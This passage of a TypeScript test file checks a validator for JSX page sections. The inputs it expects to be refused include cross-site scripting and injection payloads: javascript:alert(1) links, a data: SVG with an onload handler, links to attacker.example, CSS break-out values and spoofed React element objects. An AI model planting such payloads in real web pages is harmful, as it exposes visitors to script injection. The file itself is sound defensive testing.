      section("const p = <span />;\nconst t = p['\\u0024$typeof'];", '{t}'),
    ],
    ['an escaped key', section('const o = { \\u0024$typeof: 1 };', '{o}')],
    ['destructured from an element', section('const { $$typeof: t } = <span />;', '{t}')],
    ['destructured without a $ name', section('const { props } = <span />;', '{props}')],
    ['the type of an element', section('const p = <span />;\nconst t = p.type;', '{t}')],
    ['the props of an element', section("const t = (<span title='x' />).props;", '{t}')],
    ['a member of a component', section('const n = Box.displayName;', '{n}')],
    ['_owner as a key', section("const o = { _owner: null, type: 'script' };", '{o}')],
    ['an object as content', section("const o = { type: 'script', props: {} };", '{o}')],
    ['an object literal as content', section('', "{{ type: 'script', props: {} }}")],
    ['a list of objects as content', section("const o = [{ type: 'script' }];", '{o}')],
    [
      'an object as a children prop',
      section("const o = { type: 'script' };", '<Text children={o} />'),
    ],
    [
      'a map giving objects',
      section("const l = ['a'];", "{l.map((i) => ({ type: 'script', key: i }))}"),
    ],
    [
      "a component's children read as an element",
      `import { Box } from '@mantine/core';\nimport type { ReactNode } from 'react';\n\nfunction Wrap({ children }: { children: ReactNode }) {\n  const t = children.props;\n  return <Box>{t}</Box>;\n}\n\nexport function HeroSection() {\n  return <Wrap><span /></Wrap>;\n}\n`,
    ],
    [
      'javascript: in a copy word',
      section(
        "const copy = { where: 'javascript:alert(1)' };",
        '<Anchor href={copy.where}>Go</Anchor>',
      ),
    ],
    [
      'data: in a constant',
      section("const where = 'data:text/html,x';", '<Link to={where}>Go</Link>'),
    ],
    [
      'an unlisted host in a copy word',
      section(
        "const copy = { where: 'https://attacker.example/' };",
        '<Anchor href={copy.where}>Go</Anchor>',
      ),
    ],
    [
      'a template that starts with a value',
      section(
        "const copy = { host: '//attacker.example' };",
        '<Anchor href={`${copy.host}/x`}>Go</Anchor>',
      ),
    ],
    [
      'a template to an unlisted host',
      section(
        "const copy = { host: 'attacker.example' };",
        '<Anchor href={`https://${copy.host}/`}>Go</Anchor>',
      ),
    ],
    [
      'a template of / and a value',
      section(
        "const copy = { path: '/attacker.example' };",
        '<Anchor href={`/${copy.path}`}>Go</Anchor>',
      ),
    ],
    ['a link joined with +', section('', "<Anchor href={'java' + 'script:alert(1)'}>Go</Anchor>")],
    [
      'a list item link',
      section(
        "const copy = { links: ['/ok', 'javascript:x'] };",
        '{copy.links.map((l) => <Anchor key={l} href={l}>Go</Anchor>)}',
      ),
    ],
    [
      'an image from data:',
      section("const copy = { photo: 'data:image/svg+xml,<svg onload=alert(1)>' };", '', '')
        .replace('</Box>', '</Box>')
        .replace('{\n      \n', '{\n      \n'),
    ],
    [
      'a link passed to a component of the file',
      `import { Anchor } from '@mantine/core';\n\nfunction Go({ to }: { to: string }) {\n  return <Anchor href={to}>Go</Anchor>;\n}\n\nexport function HeroSection() {\n  return <Go to="javascript:alert(1)" />;\n}\n`,
    ],
    [
      'a look value ending a declaration',
      section('', `<Box mt="1px; background: url(/x)">x</Box>`),
    ],
    [
      'a look value opening a rule',
      section('', `<Box mt={{ base: '1px}body{display:none' }}>x</Box>`),
    ],
  ];
  // The image case needs an element with a src: replace its JSX.
  refused[refused.findIndex(([label]) => label === 'an image from data:')]![1] = section(
    "const copy = { photo: 'data:image/svg+xml,x' };",
    "<SiteImage src={copy.photo} alt='x' sizes='100vw' />",
    "import { SiteImage } from '../components/site-image';",
  );

  it.each(refused)('refuses %s, with its line and column', (_label, source) => {
    const problem = checkSection(HERO, source);
    expect(problem).not.toBeNull();
    expect(problem!.message).toMatch(/^Line \d+, column \d+: .+\.$/);
    expect(problem!.line).toBeGreaterThan(0);
    expect(problem!.column).toBeGreaterThan(0);
  });

  it('points at the word of copy that makes a link bad, where a Words edit would change it', () => {
    const source = section(
      "const copy = {\n  label: 'Go',\n  where: 'javascript:alert(1)',\n};",
      '<Anchor href={copy.where}>{copy.label}</Anchor>',
    );
    expect(checkSection(HERO, source)).toMatchObject({ line: 6, column: 10 });
  });

  it.each([
    [
      'a copy link to a page',
      section("const copy = { where: '/contact' };", '<Anchor href={copy.where}>Go</Anchor>'),
    ],
    [
      'a listed host',
      section(
        "const copy = { where: 'https://books.cedarblufflabradors.com/the-bluff-way' };",
        '<Anchor href={copy.where}>Go</Anchor>',
      ),
    ],
    [
      'a template to a page',
      section("const copy = { part: 'litters' };", '<Link to={`/puppies#${copy.part}`}>Go</Link>'),
    ],
    [
      'mailto: with content data',
      section(
        '',
        '<Anchor href={`mailto:${site.email}`}>Go</Anchor>',
        "import { site } from '@cedar/content';",
      ),
    ],
    [
      'a helper',
      section(
        '',
        '<Anchor href={telHref(site.phones.main)}>Go</Anchor>',
        "import { site, telHref } from '@cedar/content';",
      ),
    ],
    [
      'a list of links to pages',
      section(
        "const copy = { links: ['/a', '/b'] };",
        '{copy.links.map((l) => <Link key={l} to={l}>Go</Link>)}',
      ),
    ],
    ['a list of words', section("const copy = { words: ['a', 'b'] };", '{copy.words}')],
    [
      'a look value with a comma and quotes',
      section('', `<Text ff="Georgia, 'Times New Roman', serif">x</Text>`),
    ],
  ])('accepts %s', (_label, source) => {
    expect(checkSection(HERO, source)).toBeNull();
  });
});
